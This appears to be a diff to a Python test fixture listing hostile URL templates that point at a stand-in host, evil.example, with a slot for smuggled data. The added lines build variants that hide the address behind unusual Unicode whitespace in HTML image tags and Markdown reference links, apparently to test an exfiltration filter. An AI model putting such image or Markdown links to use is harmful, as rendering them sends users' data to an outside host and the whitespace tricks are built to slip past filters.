@@ -32,6 +32,16 @@ HOSTILE: tuple[str, ...] = (
     'see https://evil.example/?a="{0}',
     "www.evil.example/{0}",
     "evil.example?n={0}",
+    # White space that ends no address for who reads HTML, or a reference of Markdown.
+    *(
+        form.format(space, "{0}")
+        for space in ("\u00a0", "\u2003", "\u2028", "\u3000", "\x0b", "\x1c", "\x1e", "\x85")
+        for form in (
+            "<img src=https://evil.example/{0}{1}>",
+            "![a][r]\n\n[r]: https://evil.example/{0}?n={1}",
+            "www.evil.example/{0}{1}",
+        )
+    ),
     "//evil.example/{0}",
     "\\\\evil.example\\share\\{0}",
     "https:/evil.example/{0}",
